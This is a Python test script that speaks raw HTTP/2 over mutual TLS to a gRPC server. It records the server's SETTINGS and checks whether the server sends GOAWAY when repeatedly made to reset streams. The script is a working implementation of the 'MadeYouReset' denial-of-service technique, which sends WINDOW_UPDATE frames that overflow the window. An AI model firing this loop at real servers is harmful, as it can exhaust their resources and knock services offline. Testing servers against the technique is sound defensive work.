"""An HTTP/2 peer that breaks the rules on purpose, written on the standard library alone (raw
frames over TLS, HPACK literals without indexing): what the coordinator says in its SETTINGS, and
whether it ends a connection whose peer makes it reset stream after stream (a WINDOW_UPDATE
that overflows the stream's window, answered with RST_STREAM FLOW_CONTROL_ERROR: the
"MadeYouReset" attack).

usage: http2_limits.py HOST:PORT CA CERT KEY STREAMS
Prints one JSON object: max_concurrent_streams (None when not advertised), streams_sent,
flow_control_resets (RST_STREAM FLOW_CONTROL_ERROR received), goaway_code (None when none came).
"""

import json
import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
MAX_CONCURRENT_STREAMS = 0x3
FLOW_CONTROL_ERROR = 0x3


def frame(kind, flags, stream, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, kind, flags, stream) + payload


def literal(name, value):
    """An HPACK literal header field without indexing, new name, no Huffman coding."""
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_headers(path):
    fields = [
        (":method", "POST"),
        (":scheme", "https"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    return b"".join(literal(k, v) for k, v in fields)


class Peer:
    """One connection, read and written from one thread: an SSL socket may not be read in one
    thread while another writes to it (a TLS 1.3 ticket read mid-write lost the preface)."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.settings = {}
        self.settings_seen = False
        self.resets = 0
        self.goaway = None
        self.error = None
        self.closed = False

    def send(self, data):
        self.sock.settimeout(30)
        self.sock.sendall(data)

    def read(self, wait):
        """Reads and handles what the server sent, waiting at most `wait` seconds for it."""
        self.sock.settimeout(wait)
        try:
            data = self.sock.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            return
        except OSError as e:
            self.error, self.closed = repr(e), True
            return
        if not data:
            self.closed = True
            return
        self.buf += data
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                break
            kind, flags = self.buf[3], self.buf[4]
            payload, self.buf = self.buf[9 : 9 + n], self.buf[9 + n :]
            if kind == SETTINGS and not flags & ACK:
                for i in range(0, len(payload), 6):
                    key, value = struct.unpack(">HI", payload[i : i + 6])
                    self.settings[key] = value
                self.send(frame(SETTINGS, ACK, 0))
                self.settings_seen = True
            elif kind == RST_STREAM and int.from_bytes(payload[:4], "big") == FLOW_CONTROL_ERROR:
                self.resets += 1
            elif kind == GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    ca, cert, key, streams = sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5])
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.load_verify_locations(ca)
    ctx.check_hostname = False
    ctx.load_cert_chain(cert, key)
    ctx.set_alpn_protocols(["h2"])
    peer = Peer(ctx.wrap_socket(socket.create_connection((host, int(port)), timeout=30)))
    peer.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    deadline = time.time() + 30
    while not peer.settings_seen and not peer.closed and time.time() < deadline:
        peer.read(1)
    headers = request_headers("/toolsrv.v1.Tools/ListHosts")
    sent = 0
    stream = 1
    deadline = time.time() + 30
    try:
        while sent < streams and peer.goaway is None and not peer.closed and time.time() < deadline:
            batch = b""
            for _ in range(50):
                batch += frame(HEADERS, END_HEADERS, stream, headers)
                batch += frame(DATA, END_STREAM, stream, b"\x00\x00\x00\x00\x00")
                batch += frame(WINDOW_UPDATE, 0, stream, (0x7FFFFFFF).to_bytes(4, "big"))
                stream += 2
                sent += 1
            peer.send(batch)
            # Let the server answer before the next batch: a burst only it could not keep up
            # with would be refused for the number open, not for the resets.
            peer.read(0.02)
    except OSError as e:
        peer.error = peer.error or repr(e)
    # What the server still had to say.
    end = time.time() + 5
    while peer.goaway is None and not peer.closed and time.time() < end:
        peer.read(0.2)
    print(
        json.dumps(
            {
                "max_concurrent_streams": peer.settings.get(MAX_CONCURRENT_STREAMS),
                "streams_sent": sent,
                "flow_control_resets": peer.resets,
                "goaway_code": peer.goaway,
                "settings_received": peer.settings_seen,
                "connection_error": peer.error,
            }
        )
    )


if __name__ == "__main__":
    main()
